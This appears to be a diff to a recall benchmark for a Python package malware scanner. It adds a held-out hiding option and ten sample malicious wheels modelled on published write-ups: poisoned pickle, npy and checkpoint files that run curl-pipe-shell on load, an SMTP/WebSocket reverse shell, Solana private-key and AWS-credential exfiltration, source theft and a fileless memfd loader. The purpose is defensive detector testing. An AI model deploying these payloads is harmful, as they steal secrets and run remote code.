@@ -8,8 +8,10 @@ Two sets, reported side by side: the TUNING set below (detectors may be tuned on
 the HELD-OUT set in bench/recall_heldout.py (only measured, never tuned on). Each sample
 names the behaviour classes it exercises, so per-class recall is printed too.
 
-Usage: bench/recall.py [--set=tuning|heldout|all]   (needs `cargo build --release`;
-PIPGATE_BIN or CARGO_TARGET_DIR point it at another build, PIPGATE_POLICY at another policy)
+Usage: bench/recall.py [--set=tuning|heldout|all] [--hide-heldout]   (needs `cargo build --release`;
+PIPGATE_BIN or CARGO_TARGET_DIR point it at another build, PIPGATE_POLICY at another policy).
+--hide-heldout prints no held-out row, only counts: whoever tunes detectors measures the
+held-out set without learning which samples it misses.
 """
 import base64
 import io
@@ -55,6 +57,44 @@ def _pickle_exec(code):
             return (exec, (code,))
 
     return pickle.dumps(_R(), protocol=2).decode("latin-1")
+
+
+def _reduce_pickle(func_module, func_name, args, protocol):
+    """Pickle bytes (latin-1 text) whose load calls func_module.func_name(*args), written by
+    CPython's own pickler (a stand-in function registered under that name, never called)."""
+    import pickle
+    import types
+
+    mod = sys.modules.get(func_module) or types.ModuleType(func_module)
+    stand_in = getattr(mod, func_name, None)
+    if stand_in is None:
+        def stand_in(*a):  # noqa: E306
+            raise RuntimeError("never called")
+        stand_in.__module__, stand_in.__qualname__ = func_module, func_name
+        setattr(mod, func_name, stand_in)
+        sys.modules.setdefault(func_module, mod)
+
+    class _R:
+        def __reduce__(self):
+            return (stand_in, args)
+
+    return pickle.dumps(_R(), protocol=protocol).decode("latin-1")
+
+
+def _zip_member(entries, method=zipfile.ZIP_STORED):
+    """A zip (PyTorch's checkpoint layout) as latin-1 text."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", method) as z:
+        for name, data in entries:
+            z.writestr(name, data.encode("latin-1") if isinstance(data, str) else data)
+    return buf.getvalue().decode("latin-1")
+
+
+def _npy_objects(pickled):
+    """A .npy file (format 1.0) holding an object array: the header, then a pickle."""
+    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    header += " " * (63 - (10 + len(header)) % 64) + "\n"
+    return "\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little").decode("latin-1") + header + pickled
 
 
 # (name, kind, {path: content}, pattern, write-up it follows)
@@ -380,6 +420,93 @@ SAMPLES = [
         "    subprocess.Popen(['powershell', '-w', 'hidden', '-c', 'iwr -useb https://203.0.113.94/a.ps1 | iex'])\n"},
      "PowerShell iwr | iex in a subprocess argument list on import",
      "ESET, PyPI PowerShell downloaders (2023)"),
+
+    # ---- Round 4 (recall4, 2026-12-01): tuning samples from write-ups not used elsewhere ----
+    ("demo-joblib-dropper", "wheel", {
+        "demo_joblib_dropper/__init__.py": "import os, joblib\n"
+        "MODEL = joblib.load(os.path.join(os.path.dirname(__file__), 'clf.joblib'))\n",
+        "demo_joblib_dropper/clf.joblib": _reduce_pickle(
+            "subprocess", "Popen", (["/bin/sh", "-c", "curl -s http://203.0.113.61/m | sh"],), 4)},
+     "joblib model whose pickle starts a shell download (dropper approach); loaded on import",
+     "J. Delbar, why pickle is an unsafe model-storing format (2024)"),
+    ("demo-npy-objects", "wheel", {
+        "demo_npy_objects/__init__.py": "import numpy as np, pathlib\n"
+        "EMB = np.load(pathlib.Path(__file__).with_name('emb.npy'), allow_pickle=True)\n",
+        "demo_npy_objects/emb.npy": _npy_objects(_reduce_pickle("os", "system", ("id > /tmp/.x; curl -s http://203.0.113.62/i | sh",), 3))},
+     "object-array .npy whose pickle runs a command, loaded with allow_pickle on import",
+     "numpy allow_pickle advisory (CVE-2019-6446) and its write-ups"),
+    ("demo-ckpt-zip", "wheel", {
+        "demo_ckpt_zip/model.py": "import torch, os\n"
+        "def load():\n    return torch.load(os.path.join(os.path.dirname(__file__), 'best.ckpt'))\n",
+        "demo_ckpt_zip/best.ckpt": _zip_member([
+            ("best/data.pkl", _reduce_pickle("builtins", "exec", ("import os; os.system('touch /tmp/pwned')",), 4)),
+            ("best/version", "3\n")], zipfile.ZIP_DEFLATED)},
+     "checkpoint zip whose data.pkl calls exec (deflated entry)",
+     "8kSec, malicious models: the pickle in your ML pipeline (2025)"),
+    ("demo-gadget-pickle", "wheel", {
+        "demo_gadget_pickle/__init__.py": "import pickle, os\n"
+        "with open(os.path.join(os.path.dirname(__file__), 'data', 'vocab.pkl'), 'rb') as f:\n    VOCAB = pickle.load(f)\n",
+        "demo_gadget_pickle/data/vocab.pkl": _reduce_pickle(
+            "timeit", "timeit", ("__import__('os').system('curl -s http://203.0.113.63/v | sh')",), 3)},
+     "pickle that runs code through a gadget outside block lists (timeit.timeit); loaded on import",
+     "Liu et al., The Art of Hide and Seek: pickle model poisoning (2025)"),
+    ("demo-legacy-pt", "wheel", {
+        "demo_legacy_pt/__init__.py": "import torch, os\n"
+        "NET = torch.load(os.path.join(os.path.dirname(__file__), 'net.pt'))\n",
+        "demo_legacy_pt/net.pt":
+            "\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}q\x00X\x10\x00\x00\x00protocol_versionq\x01M\xe9\x03s."
+            + _reduce_pickle("builtins", "exec", ("import os; os.system('curl -s http://203.0.113.64/r | bash')",), 2)},
+     "legacy torch.save file (streams back to back); the object stream calls exec; loaded on import",
+     "HiddenLayer, weaponizing machine learning models with ransomware (2022)"),
+    ("demo-smtp-ws", "wheel", {"demo_smtp_ws/__init__.py":
+        "import smtplib, threading, subprocess, websocket\n"
+        "def _hello():\n"
+        "    s = smtplib.SMTP('smtp.gmail.com', 587); s.starttls()\n"
+        "    s.login('coffin.demo@gmail.com', 'app-password-0000')\n"
+        "    s.sendmail('coffin.demo@gmail.com', 'coffin.demo@gmail.com', 'Subject: up\\n\\nit works')\n"
+        "    ws = websocket.create_connection('wss://tunnel.example-relay.net/c')\n"
+        "    while True:\n"
+        "        cmd = ws.recv()\n"
+        "        ws.send(subprocess.run(cmd, shell=True, capture_output=True).stdout)\n"
+        "threading.Thread(target=_hello, daemon=True).start()\n"},
+     "Gmail SMTP check-in, then commands read from a WebSocket run through the shell, from import",
+     "Socket, PyPI packages abusing Gmail SMTP and WebSockets (2025)"),
+    ("demo-semantic-keys", "wheel", {
+        "demo_semantic_keys/__init__.py": "from . import _patch\n",
+        "demo_semantic_keys/_patch.py": "import base64, requests\nfrom solders.keypair import Keypair\n"
+        "_orig = Keypair.__init__\n"
+        "def _init(self, *a, **k):\n    _orig(self, *a, **k)\n"
+        "    memo = base64.b64encode(bytes(self)).decode()\n"
+        "    requests.post('https://api.devnet.solana.com', json={'jsonrpc': '2.0', 'id': 1,\n"
+        "        'method': 'sendTransaction', 'params': [memo]})\n"
+        "Keypair.__init__ = _init\n"},
+     "key generation patched on import to send each new private key out in a transaction memo",
+     "Socket, semantic-types Solana key theft (2025)"),
+    ("demo-src-exfil", "wheel", {"demo_src_exfil/__init__.py":
+        "import sys, os, requests\n"
+        "def _ship():\n    try:\n        src = open(os.path.abspath(sys.argv[0])).read()\n"
+        "        requests.post('http://198.51.100.93:8080/solana', data={'f': sys.argv[0], 's': src}, timeout=5)\n"
+        "    except Exception:\n        pass\n_ship()\n"},
+     "the importing program's own source sent to a raw IP on import",
+     "ReversingLabs, solana-token source-code theft (2025)"),
+    ("demo-cloud-time", "wheel", {"demo_cloud_time/__init__.py":
+        "import os, json, urllib.request\n"
+        "def sync_time():\n"
+        "    creds = open(os.path.expanduser('~/.aws/credentials')).read() if os.path.exists(os.path.expanduser('~/.aws/credentials')) else ''\n"
+        "    keys = {k: v for k, v in os.environ.items() if 'ACCESS_KEY' in k or 'SECRET' in k}\n"
+        "    req = urllib.request.Request('https://time-sync.example-cdn.xyz/api/now', data=json.dumps({'c': creds, 'k': keys}).encode())\n"
+        "    return urllib.request.urlopen(req).read()\n"
+        "sync_time()\n"},
+     "a 'time sync' call on import posts the AWS credentials file and key variables",
+     "Socket, time-utility packages exfiltrating cloud tokens (2025)"),
+    ("demo-pyloose", "wheel", {"demo_pyloose/__init__.py":
+        "import os, zlib, base64\n"
+        "_blob = '" + base64.b64encode(zlib.compress(b"\x7fELF\x02\x01\x01" + b"\x00" * 64)).decode() + "'\n"
+        "fd = os.memfd_create('', 1)\n"
+        "os.write(fd, zlib.decompress(base64.b64decode(_blob)))\n"
+        "os.execve('/proc/self/fd/%d' % fd, ['sshd'], os.environ.copy())\n"},
+     "fileless loader: decoded ELF written to a memfd and executed from memory on import",
+     "Wiz, PyLoose fileless Python loader (2023)"),
 ]
 
 # Which behaviour classes each sample exercises (per-class recall). Held-out samples carry
@@ -421,9 +548,19 @@ CLASSES = {
     "demo-pypirc": ["credential-theft", "exfiltration", "shady-links", "import-time"],
     "demo-raw-http": ["exfiltration", "beacon", "import-time"], "demo-tinyurl": ["shady-links", "download-run"],
     "demo-iwr-iex": ["download-run", "shady-links", "import-time"],
+    "demo-joblib-dropper": ["non-source-payload", "download-run", "import-time"],
+    "demo-npy-objects": ["non-source-payload", "import-time"],
+    "demo-ckpt-zip": ["non-source-payload"],
+    "demo-gadget-pickle": ["non-source-payload", "import-time"],
+    "demo-legacy-pt": ["non-source-payload", "import-time"],
+    "demo-smtp-ws": ["reverse-shell", "beacon", "exfiltration", "import-time"],
+    "demo-semantic-keys": ["credential-theft", "exfiltration", "import-time"],
+    "demo-src-exfil": ["exfiltration", "shady-links", "import-time"],
+    "demo-cloud-time": ["credential-theft", "exfiltration", "import-time"],
+    "demo-pyloose": ["native-injection", "decode-run", "import-time"],
 }
 
-BINARY_SUFFIXES = (".png", ".jpg", ".dll", ".pyc", ".exe", ".so", ".bin", ".pkl", ".pt")
+BINARY_SUFFIXES = (".png", ".jpg", ".dll", ".pyc", ".exe", ".so", ".bin", ".pkl", ".pt", ".joblib", ".npy", ".ckpt")
 
 
 def to_bytes(path, content):
@@ -487,7 +624,10 @@ def main():
     policy = os.environ.get("PIPGATE_POLICY") or os.path.join(ROOT, "policy.yaml")
     rows = [(st, name, pattern, source, classes, *scan(tmp, policy, name, kind, files))
             for st, name, kind, files, pattern, source, classes in samples(which)]
+    hide = "--hide-heldout" in sys.argv[1:]
     for st, name, pattern, source, classes, status, ids in rows:
+        if hide and st == "heldout":
+            continue
         print(f"{st:7} {status:8} {name:22} {pattern} [{source}]\n{'':39}{', '.join(ids) or '-'}")
     print()
     sets = [s for s in ("tuning", "heldout") if any(r[0] == s for r in rows)]
@@ -498,6 +638,12 @@ def main():
         flagged = sum(r[5] == "flagged" for r in mine)
         print(f"{st:7}: {n} samples: {caught} blocked ({100 * caught / n:.0f}%), {flagged} flagged but served, "
               f"{n - caught - flagged} missed")
+        if st == "heldout":
+            import recall_heldout
+            rounds = getattr(recall_heldout, "ROUNDS", {})
+            for label in sorted(set(rounds.values())) + ["earlier rounds"]:
+                part = [r for r in mine if rounds.get(r[1], "earlier rounds") == label]
+                print(f"  {label}: {sum(r[5] == 'BLOCKED' for r in part)} / {len(part)} blocked")
     classes = sorted({c for r in rows for c in r[4]})
     print("\nper-class recall (blocked / samples)")
     print(f"{'class':20} " + " ".join(f"{s:>9}" for s in sets))
